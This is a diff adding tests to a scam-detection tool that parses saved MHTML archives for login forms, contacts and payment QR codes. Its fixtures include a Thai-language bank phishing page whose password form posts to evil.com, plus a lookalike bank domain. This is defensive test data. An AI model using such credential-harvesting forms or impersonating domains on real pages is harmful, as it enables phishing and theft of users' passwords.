@@ -10,10 +10,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from scamtriage.cli.archive_parts import FRAMES_UNREAD, ArchiveParts
 from scamtriage.cli.filetypes import is_archive
 from scamtriage.cli.web_archive import ArchivedPage, NoArchive, archived_page
 from tests.cli.running import run
 from tests.cost import least_cpu_s
+from tests.drawing import qr
 
 PAGE = "<!DOCTYPE html><title>ธนาคาร</title><p>Call +66 81 234 5678 = now".encode()
 CHROME = (
@@ -135,3 +137,70 @@ def test_whatever_the_bytes_are_it_is_a_page_or_a_sentence(parts: list[bytes]) -
         assert isinstance(archived_page(b"".join(parts)).body, bytes)
     except NoArchive as exc:
         assert str(exc)
+
+
+def part(kind: bytes, body: bytes, *headers: bytes) -> bytes:
+    head = b"".join(line + b"\r\n" for line in (b"Content-Type: " + kind, b"Content-Transfer-Encoding: base64", *headers))
+    return BETWEEN + head + b"\r\n" + base64.encodebytes(body).replace(b"\n", b"\r\n")
+
+
+FRAMED = (
+    b"<!DOCTYPE html><title>Bank</title><p>Please sign in with your account below, as you do on every other day of the year.</p>"
+    b'<iframe title=a src="cid:frame-2@mhtml.blink" width="600"></iframe>'
+)
+LOGIN = (
+    "<h1>ลงชื่อเข้าใช้</h1><form action='https://evil.com/'><input type=password name=p placeholder='รหัสผ่าน'></form><p>Call +66 2 123 4567</p>"
+)
+
+
+def framed(tmp_path: Path, *parts: bytes) -> Path:
+    file = tmp_path / "framed.mhtml"
+    file.write_bytes(CHROME + part(b"text/html", FRAMED, b"Content-Location: https://kasikorn-verify.top/a") + b"".join(parts) + END)
+    return file
+
+
+def test_a_login_in_a_frame_of_an_archive_is_read(tmp_path: Path) -> None:
+    frame = part(b"text/html; charset=utf-8", LOGIN.encode(), b"Content-ID: <frame-2@mhtml.blink>")
+    row = json.loads(run("check", str(framed(tmp_path, frame)), "--url", "https://evil.com/", "--format", "json").stdout)
+    page = row["facts"]["page"]
+    assert page["asks"] == ["password"] and page["complete"] and "+6621234567" in [one["value"] for one in row["facts"]["contacts"]]
+
+
+@pytest.mark.parametrize(
+    "frame",
+    [
+        b"",
+        part(b"image/png", b"x", b"Content-ID: <frame-2@mhtml.blink>"),
+        part(b"text/html", b"x" * 700_000, b"Content-ID: <frame-2@mhtml.blink>"),
+    ],
+)
+def test_a_frame_that_the_archive_lacks_is_said_to_be_unread(tmp_path: Path, frame: bytes) -> None:
+    row = json.loads(run("check", str(framed(tmp_path, frame)), "--url", "https://evil.com/", "--format", "json").stdout)
+    page = row["facts"]["page"]
+    assert not page["complete"] and page["incomplete_because"] == FRAMES_UNREAD
+
+
+def test_a_picture_in_an_archive_is_searched_for_codes(tmp_path: Path) -> None:
+    pay = "00020101021129370016A000000677010111011300668192345675802TH530376463048C1A"
+    page = (
+        b"<title>Pay</title><p>Scan to pay for your parcel today, please.</p><img alt='QR code' src='/img/qr.png'><img src=cid:two@x alt=x>"
+    )
+    root = part(b"text/html", page, b"Content-Location: https://kasikorn-verify.top/a")
+    drawn = part(b"image/png", qr(pay), b"Content-Location: https://kasikorn-verify.top/img/qr.png")
+    file = tmp_path / "saved.mhtml"
+    file.write_bytes(CHROME + root + drawn + END)
+    found = json.loads(run("contacts", str(file), "--format", "json").stdout)
+    assert [(one["kind"], one["where"]) for one in found] == [("payment-qr", "qr image")]
+
+
+def test_frames_within_frames_end() -> None:
+    inside = part(b"text/html", b'<iframe src="cid:a"></iframe>' * 50, b"Content-ID: <a>")
+    whole = ArchiveParts(CHROME + inside + END, "").with_frames(b'<iframe src="cid:a"></iframe>')
+    assert whole.missing >= 1 and len(whole.body) < 100_000
+
+
+@given(st.binary(max_size=400))
+def test_whatever_stands_in_an_archive_its_parts_are_read_or_not(data: bytes) -> None:
+    parts = ArchiveParts(archive(data), "https://a.com/")
+    assert parts("cid:x") is None or isinstance(parts("cid:x"), bytes | str)
+    assert isinstance(parts.with_frames(data).body, bytes)
